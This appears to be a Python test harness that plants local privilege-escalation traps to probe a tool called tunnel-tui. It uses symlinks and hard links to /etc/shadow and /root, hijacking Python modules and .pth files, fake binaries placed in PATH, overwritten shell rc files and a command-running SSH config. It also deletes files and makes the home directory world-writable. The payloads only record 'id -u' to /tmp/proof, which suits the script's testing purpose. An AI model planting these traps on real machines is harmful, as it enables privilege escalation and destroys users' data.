"""Run by a container's user: puts traps wherever it may write. Usage: tricks.py SEED."""

import os
import random
import shutil
import stat
import sys
from pathlib import Path

UID = os.getuid()
HOME = Path("/home/myuser")
STATE = Path(f"/var/lib/tunnel-tui/{UID}")
if not STATE.is_dir():
    STATE = HOME / ".local/state"
TARGETS = (
    "/etc/shadow",
    "/etc/passwd",
    "/etc/cron.d/new",
    "/etc",
    "/opt",
    "/opt/tunnel-tui",
    "/opt/tunnel-tui/bin/python",
    "/opt/tunnel-tui/lib",
    "/usr/local/bin",
    "/usr/local/bin/tunnel-tui",
    "/root",
    "/",
)
PROOF = "/tmp/proof"
SHELL = f"#!/bin/sh\nid -u >> {PROOF}\n"
PYTHON = f"import os\nos.system('id -u >> {PROOF}')\n"
SSH = f"Match exec \"id -u >> {PROOF}\"\nHost *\n  ProxyCommand sh -c 'id -u >> {PROOF}'\n"
PROGRAMS = ("python3", "python", "id", "sh", "ssh", "autossh", "setpriv", "getent", "stat", "sed")
MODULES = ("sitecustomize.py", "usercustomize.py", "re.py", "os.py", "encodings.py", "yaml.py")


def remove(path: Path) -> None:
    """Take away what is there, whatever it is; a mount stays."""
    try:
        if path.is_dir() and not path.is_symlink():
            shutil.rmtree(path, ignore_errors=True)
        else:
            path.unlink(missing_ok=True)
    except OSError:
        pass


def trap(path: Path, choice: random.Random) -> None:
    """Put one of the tricks in the place of `path`."""
    kind = choice.choice(("symlink", "symlink", "hard link", "fifo", "directory", "renamed", "big"))
    target = choice.choice(TARGETS)
    print(kind, path, target)
    if kind == "renamed" and path.exists():
        path.rename(path.with_name(path.name + ".old"))
        kind = "symlink"
    remove(path)
    if kind == "hard link":
        try:
            os.link(target, path, follow_symlinks=False)
        except OSError:  # fs.protected_hardlinks, or a directory
            path.symlink_to(target)
    elif kind == "fifo":
        os.mkfifo(path, 0o666)
    elif kind == "directory":
        path.mkdir()
        for name in ("tunnel-tui", "config.yaml", "known_hosts", "history.jsonl", "tunnel-0.log"):
            (path / name).symlink_to(choice.choice(TARGETS))
    elif kind == "big":
        with path.open("wb") as file:
            file.truncate(1 << 24)
    else:
        path.symlink_to(target)


def plant_code() -> None:
    """Leave programs and modules wherever somebody might look for them."""
    version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
    for place in (HOME, Path("/tmp"), HOME / f".local/lib/{version}/site-packages", STATE):
        place.mkdir(parents=True, exist_ok=True)
        for name in MODULES:
            (place / name).write_text(PYTHON)
        (place / "tunnel_tui").mkdir(exist_ok=True)
        (place / "tunnel_tui/__init__.py").write_text(PYTHON)
        (place / "evil.pth").write_text(
            PYTHON.replace("\n", "; ").replace("import os; ", "import os; ", 1)
        )
        (place / "pyvenv.cfg").write_text(
            f"home = {HOME}/bin\ninclude-system-site-packages = true\n"
        )
    for place in (HOME / "bin", HOME / ".local/bin", HOME, Path("/tmp")):
        place.mkdir(parents=True, exist_ok=True)
        for name in PROGRAMS:
            program = place / name
            if not program.exists():
                program.write_text(SHELL)
                program.chmod(0o755)
    for name in (".bashrc", ".profile", ".bash_profile", ".bash_login", ".shinit", ".pythonrc.py"):
        remove(HOME / name)
        (HOME / name).write_text(SHELL)
    ssh = HOME / ".ssh"
    ssh.mkdir(mode=0o700, exist_ok=True)
    (ssh / "config").write_text(SSH)
    (ssh / "rc").write_text(SHELL)


def main() -> None:
    choice = random.Random(int(sys.argv[1]))
    Path(PROOF).touch()
    Path(PROOF).chmod(0o666)
    plant_code()
    places = [
        HOME / ".config",
        HOME / ".cache",
        HOME / ".local/state",
        HOME / ".autossh-sockets",
        STATE / "tunnel-tui",
        Path("/etc/autossh/config/backups"),
        Path("/etc/autossh/config/config.yaml"),
        Path("/tmp/autossh_tunnels.state"),
        Path("/tmp/autossh-logs"),
        Path("/run/lock/tunnel-tui"),
    ]
    places += [place / "tunnel-tui" for place in (HOME / ".config", HOME / ".cache")]
    data = STATE / "tunnel-tui"
    if data.is_dir():
        names = ("known_hosts", "history.jsonl", "watcher.lock", "ssh-probe", "locks", "runs")
        places += [data / name for name in names]
    if sys.argv[1] == "0":  # the one that once made the program the user's
        remove(HOME / ".local/state")
        (HOME / ".local/state").symlink_to("/opt")
        return
    for place in choice.sample(places, choice.randrange(len(places) // 2, len(places) + 1)):
        try:
            trap(place, choice)
        except OSError as error:
            print("not possible:", place, error)
    # What stands already may still be bent: everything of ours that is writable for all.
    for root, _, files in os.walk(HOME):
        for name in files:
            path = Path(root, name)
            if stat.S_ISREG(path.lstat().st_mode):
                path.chmod(0o777)


main()
